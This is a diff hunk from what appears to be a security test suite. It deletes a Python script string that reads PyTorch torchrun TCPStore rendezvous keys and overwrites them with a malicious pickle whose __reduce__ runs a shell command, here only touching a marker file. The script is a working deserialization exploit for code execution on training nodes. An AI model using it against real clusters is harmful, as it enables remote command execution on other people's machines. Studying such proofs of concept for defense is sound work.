@@ -139,29 +139,3 @@ for port in ports:  # without looking at whom it talks to
         except OSError:
             print("stayed out")
 """
-TORCHS_CLIENT = """
-import base64, datetime, os, pickle, sys
-from torch.distributed import TCPStore
-mark, *ports = sys.argv[1:]
-class Evil:
-    def __reduce__(self):
-        return os.system, ("touch " + mark,)
-KEYS = ("torch.rendezvous.jupyter-slurm", "torch.rendezvous.none", "ended.1")
-short = datetime.timedelta(seconds=1)
-for port in ports:
-    host, _, number = port.rpartition(":")
-    try:
-        store = TCPStore(host, int(number), None, False, datetime.timedelta(seconds=20))
-    except (OSError, RuntimeError):
-        continue
-    print("store", store.num_keys())
-    for key in KEYS:
-        try:
-            store.wait([key], short)
-            print("got", store.get(key))
-        except (OSError, RuntimeError):
-            pass
-    for key in KEYS:
-        store.set(key, base64.b64encode(pickle.dumps(Evil())))
-"""
-"""Reads torchrun's rendezvous, and writes into it what runs a program where it is unpickled."""
